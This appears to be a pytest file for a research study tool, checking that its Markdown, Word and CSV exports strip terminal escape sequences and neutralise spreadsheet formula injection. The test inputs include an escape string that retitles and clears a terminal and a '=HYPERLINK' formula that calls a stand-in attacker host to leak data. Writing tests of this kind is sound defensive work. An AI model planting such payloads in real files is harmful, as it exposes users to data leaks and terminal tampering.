"""Exports carry no terminal escape sequences: Markdown, Word and CSV share coding.guards.text."""

from __future__ import annotations

import csv

import pytest

from coding.codebook import list_codes, list_stages, update_code
from coding.people import set_participant_attribute
from exports import write_csv, write_markdown, write_report
from tests.exports.journey_study import docx_xml

ESCAPES = "\x1b]0;pwned\x07\x1b[2J"


@pytest.mark.filterwarnings("error:Glyph")  # the emotion curve drew the ESC and BEL of a stage name
def test_markdown_word_and_csv_drop_escape_sequences(fresh_study, tmp_path):
    """Before: Markdown printed them raw; the Word report dropped the ESC but kept '[2J' and ']0;pwned'."""
    store, _ids = fresh_study
    store.set_setting("name", f"{ESCAPES}Scan journey")
    stage = list_stages(store)[0]
    update_code(store, stage.id, name=f"{stage.name}{ESCAPES}")
    md = tmp_path / "journey.md"
    write_markdown(store, md, anonymize=False)
    text = md.read_text(encoding="utf-8")
    assert text.startswith("# Scan journey: customer journey")
    assert f"| {stage.name} |" in text and "\x1b" not in text and "[2J" not in text
    report = tmp_path / "journey.docx"
    write_report(store, report, anonymize=False)
    xml = docx_xml(report)
    assert "Scan journey" in xml and "[2J" not in xml and "pwned" not in xml
    out = tmp_path / "codings.csv"
    write_csv(store, out, anonymize=False)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert stage.name in {r["code"] for r in rows} and not any("\x1b" in v for r in rows for v in r.values())


FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def _csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_every_csv_that_leaves_the_study_is_formula_safe(fresh_study, tmp_path):
    """Issue 19 item 4: the matrix CSV and the workshop cards CSV wrote a `=HYPERLINK(…)` attribute value and
    code name raw, where the codings CSV already neutralised them."""
    from exports.matrix_csv import write_matrix
    from exports.workshop import write_kit

    store, _ids = fresh_study
    set_participant_attribute(store, "Ben Carter", "segment", FORMULA)
    stage = list_stages(store)[0]
    update_code(store, stage.id, name=f"@{stage.name}")
    pain = next(c for c in list_codes(store) if c.kind == "pain_point")
    update_code(store, pain.id, name=f"+{pain.name}")
    outputs = {"codings": tmp_path / "codings.csv", "matrix": tmp_path / "matrix.csv",
               "cards": tmp_path / "cards.csv"}
    write_csv(store, outputs["codings"], anonymize=False)
    write_matrix(store, outputs["matrix"], rows="codes", cols="attr:segment", anonymize=False)
    write_kit(store, tmp_path / "kit.docx", anonymize=False, csv_path=outputs["cards"])
    for name, path in outputs.items():
        cells = _csv_cells(path)
        assert cells, name
        assert not [c for c in cells if c.startswith(("=", "+", "@", "-"))], name
    matrix = _csv_cells(outputs["matrix"])
    assert "'" + FORMULA in matrix and f"'@{stage.name} (stage)" in matrix
    assert any(c.startswith(f"'+{pain.name}") for c in matrix)
    assert f"'@{stage.name}" in _csv_cells(outputs["cards"])
